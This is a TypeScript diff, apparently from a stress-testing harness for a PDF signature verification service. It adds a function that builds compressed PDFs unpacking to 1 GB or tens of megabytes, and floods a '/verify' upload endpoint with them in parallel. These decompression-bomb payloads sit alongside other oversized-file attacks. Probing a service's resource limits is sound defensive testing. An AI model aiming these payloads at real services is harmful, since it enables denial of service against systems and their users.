@@ -2,6 +2,7 @@ import { randomBytes } from 'node:crypto';
 import { once } from 'node:events';
 import { connect, type Socket } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
+import { deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { dropping } from './dropping-form.ts';
 
@@ -36,6 +37,17 @@ export const ATTACKS = {
   'crafted files of 10 MB to be checked, as large as they may be': async (target) => {
     const file = craftedPdf(10 * MEGABYTE - 1);
     return inParallel(60, 10, () => upload(target, `/verify/${target.code}`, file));
+  },
+  'files that unpack to 1 GB or to 10 million letters, to be recognised without a code': async (target) => {
+    const files = [
+      packedPdf(Buffer.alloc(1024 * MEGABYTE, ' ')),
+      packedPdf(Buffer.alloc(40 * MEGABYTE, '(abcd) Tj\n')),
+    ];
+    let index = 0;
+    return inParallel(200, 10, () => {
+      index += 1;
+      return upload(target, '/verify', files[index % files.length] ?? Buffer.alloc(0));
+    });
   },
   '20 signatures of 4000 × 4000': async (target) => {
     const image = await largePicture();
@@ -158,6 +170,19 @@ function craftedPdf(size: number): Buffer {
     file.write(`/ByteRange [0 20 ${20 + place} ${size - 20 - place - (index % 2)}]`, size - index * 100);
   }
   return file;
+}
+
+/** A file of one page whose contents are packed. */
+function packedPdf(contents: Buffer): Buffer {
+  const packed = deflateSync(contents);
+  const head = [
+    '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
+    '2 0 obj\n<< /Type /Pages /Count 1 /Kids [3 0 R] >>\nendobj\n',
+    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n',
+    `4 0 obj\n<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`,
+  ];
+  const end = '\nendstream\nendobj\ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n';
+  return Buffer.concat([Buffer.from(head.join('')), packed, Buffer.from(end)]);
 }
 
 /** Some 70 kB that become 64 MB of pixels. */
